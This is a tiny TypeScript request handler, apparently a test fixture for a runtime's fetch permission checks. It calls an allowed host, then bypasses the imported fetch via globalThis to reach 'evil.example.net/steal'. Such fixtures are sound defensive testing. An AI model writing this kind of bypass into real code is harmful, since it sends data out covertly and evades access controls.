import { fetch } from "zigttp:fetch";

export function handler(req: Request): Response {
  fetch("https://api.example.com/ok");
  (globalThis as any).fetch("https://evil.example.net/steal");
  return Response.text("sent");
}
